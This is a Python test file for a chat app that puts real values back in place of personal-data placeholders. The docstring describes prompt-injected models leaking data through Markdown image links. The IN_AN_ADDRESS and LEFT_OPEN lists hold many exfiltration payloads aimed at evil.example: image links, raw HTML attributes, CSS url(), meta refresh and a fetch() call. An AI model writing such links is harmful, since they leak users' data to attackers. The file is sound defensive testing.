"""A value goes back where a reader reads it, never where a renderer makes an address of it.

A prompt-injected model answers with the placeholder it was given inside a link it
writes (``![p](https://evil.example/p.png?e=[EMAIL_1])``). The chat page keeps the
placeholder there; what Steward hands to something else that renders Markdown must too:
the exports (GitHub, VS Code and Obsidian render their raw HTML and reference
definitions) and the API (Open WebUI or an IDE panel loads an image with no click).
Withheld, the placeholder stays as the model wrote it.
"""

import json
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chat.markdown import (
    HTML_CLOSER,
    OutsideLinksRestorer,
    leaves_html_open,
    restore_markdown,
    restore_outside_links,
)
from tests.asked_here import asked
from tests.chat.test_views import _answered

EMAIL = "jane.doe@corp-secret.com"
VALUES = {"[EMAIL_1]": EMAIL, "[PERSON_1]": "Ann Lee"}
PROSE = "Write to [EMAIL_1] today."
PROSE_BACK = f"Write to {EMAIL} today."

#: The reviewer's shapes and their cousins: the value, put back, would be in an address.
IN_AN_ADDRESS = {
    "markdown image": "![p](https://evil.example/p.png?e=[EMAIL_1])",
    "inline link": "See [your account](https://evil.example/collect?who=[EMAIL_1]) now.",
    "raw img src": 'C <img src="https://evil.example/pixel.png?v= [EMAIL_1]">',
    "raw a href": 'D <a href="https://evil.example/a?v= [EMAIL_1] ">html link</a>',
    "reference definition": "B [your profile][r2]\n\n[r2]: <https://evil.example/ref?v= [EMAIL_1]>",
    "reference, address on the next line": "[r]:\n  <https://evil.example/? [EMAIL_1]>\n\n[go][r]",
    "angle destination with a space": "A [click](<https://evil.example/c?v= [EMAIL_1]>) link.",
    "angle image with a space": "E ![pic](<https://evil.example/img.png?v= [EMAIL_1]>)",
    "angle destination holding a paren": "[a](<https://evil.example/?x) [EMAIL_1]>)",
    "encoded space": "F [x](https://evil.example/?v=%20[EMAIL_1])",
    "relative link": "[a](?who=[EMAIL_1])",
    "bare URL": "Go to https://evil.example/?q=[EMAIL_1] now.",
    "www link": "Go to www.evil.example/?q=[EMAIL_1] now.",
    "protocol-relative": "Go to //evil.example/?q=[EMAIL_1] now.",
    "bare URL, then a no-break space": "https://evil.example/?q=\u00a0[EMAIL_1]",
    "bare URL spelled with entities": "https&#58;&#47;&#47;evil&#46;example/?q=[EMAIL_1]",
    "unquoted attribute": "<img src=https://evil.example/?v=[EMAIL_1]>",
    "single-quoted srcset": "<img srcset='https://evil.example/a.png?v= [EMAIL_1] 2x'>",
    "a quoted '>' first": '<img alt=">" src="https://evil.example/? [EMAIL_1]">',
    "style sheet": '<style>p { background: url("https://evil.example/? [EMAIL_1]") }</style>',
    # The HTML block ends at the blank line, the attribute does not: a browser reads the
    # next paragraph into it (its quote there is written &quot;), up to a later link's.
    "attribute left open": '<div><img src="https://evil.example/p.png?\n\n'
    'Dear "friend"> [EMAIL_1].\n\n[ok](https://ok.example/)',
    "attribute left open, old Mac line ends": '<div><img src="https://evil.example/p.png?\r\r'
    'Dear "friend"> [EMAIL_1].\r\r[ok](https://ok.example/)',
    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/? [EMAIL_1]">',
}

#: Where a value is text a reader reads: it goes back.
IN_TEXT = [
    "**[EMAIL_1]** and ([PERSON_1]), [PERSON_1]'s manager.",
    "Use `[EMAIL_1]` here.",
    "```\nto = '[EMAIL_1]'\n```",
    "See [the docs](https://docs.example/) and write to [EMAIL_1].",
    "[Write to [EMAIL_1]](mailto:dpo@example.com)",
    "Ask <b>[PERSON_1]</b>.",
    '<img src="https://ok.example/x.png" alt=">"> [PERSON_1] is here.',
    "[PERSON_1]: the manager.",
    "If a < b then [PERSON_1] wins.",
    '<a title="x">[PERSON_1]</a> <style>p {}</style> [EMAIL_1]',
]


class _Attributes(HTMLParser):
    """Every attribute value of an HTML page, as a browser reads it (and %-decoded)."""

    def __init__(self):
        super().__init__()
        self.values: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.values += [unquote(value or "") for _, value in attrs]

    def parse_html_declaration(self, i):
        if self.rawdata.startswith("<![", i):  # a browser reads a comment, up to ">"
            end = self.rawdata.find(">", i)
            return -1 if end < 0 else end + 1
        return super().parse_html_declaration(i)


def _addresses(markdown: str) -> list[str]:
    """The attribute values of ``markdown`` rendered as GitHub and VS Code would: raw HTML
    and reference definitions on."""
    parser = _Attributes()
    parser.feed(MarkdownIt("commonmark", {"html": True}).render(markdown))
    parser.close()
    return parser.values


def _streamed(text: str, cuts: list[int]) -> str:
    restorer = OutsideLinksRestorer(VALUES)
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    return "".join(restorer.feed(piece) for piece in pieces) + restorer.flush()


def _every_way(text: str) -> dict[str, str]:
    """``text`` restored whole, for an export, and streamed in pieces cut everywhere."""
    ways = {
        "whole": restore_outside_links(text, VALUES),
        "export": restore_markdown(text, VALUES),
        "one character at a time": _streamed(text, list(range(1, len(text)))),
    }
    for cut in range(1, len(text)):
        ways[f"cut at {cut}"] = _streamed(text, [cut])
    return ways


@pytest.mark.parametrize("shape", IN_AN_ADDRESS.values(), ids=IN_AN_ADDRESS.keys())
def test_a_value_never_goes_back_inside_an_address(shape):
    text = f"{PROSE}\n\n{shape}\n"
    for way, restored in _every_way(text).items():
        assert restored.count(EMAIL) == 1, (way, restored)
        assert restored.startswith(PROSE_BACK), (way, restored)
        assert restored.endswith(f"{shape}\n"), (way, restored)  # the placeholder stays
        assert not any(EMAIL in value for value in _addresses(restored)), way


@pytest.mark.parametrize("text", IN_TEXT)
def test_a_value_in_text_goes_back(text):
    wanted = text.replace("[EMAIL_1]", EMAIL).replace("[PERSON_1]", "Ann Lee")
    for way, restored in _every_way(text).items():
        assert restored == wanted, way


def test_ordinary_text_streams_at_once_and_only_a_values_word_waits():
    restorer = OutsideLinksRestorer(VALUES)
    assert restorer.feed("Hello ") == "Hello "
    assert restorer.feed("there, [EMA") == "there, "
    assert restorer.feed("IL_1]") == ""  # its word may yet become an address
    assert restorer.feed(", thanks for [EMAIL_9] and ") == f"{EMAIL}, thanks for [EMAIL_9] and "
    assert restorer.feed("https://evil.example/?q=[EMAIL_1]") == "https://evil.example/?q="
    assert restorer.feed(" ok") == "[EMAIL_1] ok"
    assert restorer.flush() == ""


def test_an_unfinished_placeholder_is_given_out_as_written_at_the_end():
    restorer = OutsideLinksRestorer(VALUES)
    assert restorer.feed("Dear [PERSON_1") == "Dear "
    assert restorer.flush() == "[PERSON_1"


def test_a_value_that_would_open_an_address_itself_stays_a_placeholder():
    """A value is the author's, but it may hold markup that turns what follows into an
    address (a rule's match of pasted HTML)."""
    values = {**VALUES, "[REDACTED_1]": '<img src="https://evil.example/?'}
    assert restore_outside_links('[REDACTED_1] [EMAIL_1]">', values) == f'[REDACTED_1] {EMAIL}">'


PIECES = [
    *("[EMAIL_1]", "[PERSON_1]", "[EMAIL_9]", "&#91;EMAIL_1&#93;", "\\[EMAIL_1\\]", "&quot;"),
    *("[", "]", "(", ")", "<", ">", "`", "```", "*", "!", "\\", '"', "'", "=", "/", "?q=", "@"),
    *("https://evil.example/", "www.", "](", "](<", "]:", " ", "\n", "\n\n", "    ", "."),
    *("<img src=", "<a href=", "<div>", "<style>", "</style>", "url(", "<!--", "-->", "\u00a0"),
]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(PIECES), max_size=25), st.data())
def test_no_mix_of_syntax_puts_a_value_in_an_attribute(pieces, data):
    text = "".join(pieces)
    whole = restore_outside_links(text, VALUES)
    for restored in (whole, restore_markdown(text, VALUES)):
        for value in _addresses(restored):
            assert EMAIL not in value and "Ann Lee" not in value, (text, restored)
    cuts = sorted(set(data.draw(st.lists(st.integers(1, max(1, len(text) - 1)), max_size=4))))
    assert _streamed(text, [c for c in cuts if c < len(text)]) == whole


# --- the exports ------------------------------------------------------------------------


@pytest.fixture
def hostile(org):
    """Alice's conversation whose answer puts her address in every shape of address, after
    naming it in a sentence (the reviewer's answer, and more)."""
    answer = "\n\n".join([PROSE, *IN_AN_ADDRESS.values()])
    conversation, _, _ = _answered(
        org.alice, org.internal, f"Mail {EMAIL}", answer, pseudonyms={EMAIL: "[EMAIL_1]"}
    )
    return conversation, answer


@pytest.mark.parametrize("fmt", ["md", "json"])
def test_the_exports_keep_every_address_free_of_the_value(client, org, hostile, fmt):
    conversation, answer = hostile
    client.force_login(org.alice)
    address = reverse("chat:export", args=[conversation.public_id, fmt])
    response = client.get(asked(client, address))
    body = response.content.decode()
    text = json.loads(body)["messages"][1]["text"] if fmt == "json" else body
    assert PROSE_BACK in text
    assert answer.removeprefix(PROSE) in text  # each address as the model wrote it
    in_question = text.count(f"Mail {EMAIL}")  # the question, and the title it gave
    assert text.count(EMAIL) - in_question == 1  # the answer's prose
    assert not any(EMAIL in value for value in _addresses(text))


#: Texts that end inside HTML, as a browser reads a block of raw HTML.
LEFT_OPEN = [
    '<div><img src="https://evil.example/p.png?',
    "<div><img src='https://evil.example/p.png?",
    "<div><img src=https://evil.example/p.png?",
    "<div><img src=",
    "<div><img src",
    "<div><img ",
    '<div><img src="https://evil.example/?\n\nand "more" quotes>',
]


@pytest.mark.parametrize("text", LEFT_OPEN)
def test_the_closer_ends_what_a_text_left_open(text):
    assert leaves_html_open(text)
    following = f'## You\n\nMail {EMAIL} "now", it\'s urgent.\n\n[ok](https://ok.example/)'
    after = f"{text}\n\n{HTML_CLOSER}\n\n{following}"
    assert not any(EMAIL in value for value in _addresses(after))


def test_a_style_sheet_or_script_left_open_is_html_left_open():
    assert leaves_html_open("<style>p { background: url(https://evil.example/?")
    assert leaves_html_open("<SCRIPT>fetch('https://evil.example/?")
    closed = ["<style>p {}</style>", '<img src="x"> and a < b', "[a](https://x.example/", PROSE]
    for text in closed:
        assert not leaves_html_open(text), text


def test_the_markdown_export_closes_what_a_turn_left_open(client, org):
    """The answer's image tag would take in the author's next question, and with it her
    address, when GitHub or VS Code renders the export."""
    conversation, _, _ = _answered(
        org.alice,
        org.internal,
        f"Mail {EMAIL}",
        'Here it is:\n\n<div><img src="https://evil.example/p.png?',
        pseudonyms={EMAIL: "[EMAIL_1]"},
    )
    _answered(
        org.alice,
        org.internal,
        f'Thanks, and copy "{EMAIL}" please',
        "Done, [EMAIL_1] is copied: see [the log](https://ok.example/).",
        pseudonyms={EMAIL: "[EMAIL_1]"},
        conversation=conversation,
    )
    client.force_login(org.alice)
    export = client.get(asked(client, reverse("chat:export", args=[conversation.public_id, "md"])))
    text = export.content.decode()
    assert text.count(HTML_CLOSER) == 1
    assert f"Done, {EMAIL} is copied" in text
    assert not any(EMAIL in value for value in _addresses(text))
